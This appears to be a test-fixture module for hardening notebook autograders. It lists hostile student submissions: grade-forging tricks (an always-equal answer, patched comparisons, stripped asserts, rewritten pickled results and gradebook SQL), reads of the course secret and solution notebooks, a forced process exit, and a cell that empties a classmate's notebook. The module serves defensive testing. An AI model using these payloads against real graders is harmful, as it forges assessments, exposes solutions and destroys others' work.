"""What hostile learners hand in to `grading`: one cell, or a changed notebook.

Each cell stands where the answer to the first exercise belongs, and none answers it; the others
are empty. The texts are the same for every grader. `COURSE` is the folder of the course, which
anybody can find who looks around; `LOOT` is a folder outside the submission, where whoever got
what they wanted leaves a mark. Nothing is touched but these two, and what is taken of the machine
has an end.
"""

import json
from collections.abc import Callable

HEAD = "def calcium_loss(fall, power):\n"
FUNCTION = f"{HEAD}    return 0.0\n"
MARK = 'open(f"{LOOT}/ATTACK", "w").close()\n'


# --- points that nobody earned ------------------------------------------------------------------

POINTS = {
    "answer-equal-to-all": f"""\
class Equal(float):
    def __eq__(self, other): return True
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __sub__(self, other): return self
    __rsub__ = __abs__ = lambda self, *other: self
    __hash__ = None
{HEAD}    return Equal(0)
answer = Equal(0)
dose_for = calcium_loss
""",
    "comparison-patched": f"""\
import math, numpy, numpy.testing
math.isclose = numpy.isclose = numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = numpy.testing.assert_almost_equal = lambda *a, **k: None
answer = 0.0
dose_for = lambda *a: 0.0
{FUNCTION}""",
    "asserts-removed": f"""\
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return None
get_ipython().ast_transformers.append(Drop())
{FUNCTION}""",
    "results-forged": f"""\
import pickle
usual = pickle.dump
def dump(found, *a, **k):
    for test in getattr(found, "results", {{}}).values():
        for case in test.test_case_results:
            case.passed = True
    usual(found, *a, **k)
pickle.dump = dump
{FUNCTION}""",
    # In the gradebook of nbgrader, the results of Otter, and the table of ours.
    "gradebook-written": f"""\
import json, os, pathlib, sqlite3
me = "gradebook-written"
for path in pathlib.Path(COURSE).rglob("*"):
    if path.suffix == ".db":
        with sqlite3.connect(path, timeout=1) as book:
            book.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells c"
                         " WHERE c.id = cell_id) WHERE notebook_id IN (SELECT n.id FROM"
                         " submitted_notebook n JOIN submitted_assignment a ON a.id ="
                         " n.assignment_id WHERE a.student_id = ?)", (me,))
    if path.name.startswith("grades") and path.is_file():
        path.open("a").write(me + ",,8,8,8,8,8,graded\\n")
for path in (pathlib.Path("results.json"), pathlib.Path("../results/results.json")):
    if path.parent.is_dir():
        path.write_text(json.dumps({{"tests": [{{"name": "a", "score": 8, "max_score": 8}}]}}))
{FUNCTION}""",
    # The secret of the course, from which ours makes everybody's numbers and keys.
    "secret-read": f"""\
import pathlib
{FUNCTION}
for path in pathlib.Path(COURSE).rglob("secret*"):
    from mechanisms.exercises.item import get
    mine = get("gabapentinoid-loss").for_credit(path.read_text(), "secret-read")
    calcium_loss = mine.question.reference
""",
    # What the teacher wrote, in the folder of the course.
    "solution-read": f"""\
import json, pathlib
{FUNCTION}
for path in pathlib.Path(COURSE).rglob("*.ipynb"):
    try: cells = json.loads(path.read_text())["cells"]
    except ValueError: continue
    for cell in cells:
        source = "".join(cell["source"])
        if any(line.endswith(" SOLUTION") for line in source.splitlines()):
            exec(source)
""",
}

# --- an end to the grading ----------------------------------------------------------------------

OS_EXIT = f"""\
{HEAD}    import os
    os._exit(0)
"""

# --- what is not theirs -------------------------------------------------------------------------

REACHES = {
    "file-written-outside": MARK + FUNCTION,
    "classmate-emptied": f"""\
import pathlib
for path in pathlib.Path(COURSE).rglob("*.ipynb"):
    if "upright-1" in str(path):
        path.write_text("")
        {MARK}
{FUNCTION}""",
}
CELLS = POINTS | {"process-ended": OS_EXIT} | REACHES


def cell(name: str, course: str, loot: str) -> str:
    """Return the cell of an attack."""
    text = f"COURSE, LOOT = {course!r}, {loot!r}\n{CELLS[name].replace('ATTACK', name)}"
    compile(text, name, "exec")  # a slip in an attack would flatter every grader
    return text


# --- changed notebooks --------------------------------------------------------------------------


def _tests_rewritten(text: str) -> str:
    """Every cell but the answers does nothing."""
    notebook = json.loads(text)
    for one in notebook["cells"]:
        if one["cell_type"] == "code" and not one.get("id", "").startswith("answer-"):
            one["source"] = "pass"
    return json.dumps(notebook)


CHANGES: dict[str, Callable[[str], str]] = {
    "tests-rewritten": _tests_rewritten,
    "notebook-cut-short": lambda text: text[: len(text) // 2],
}
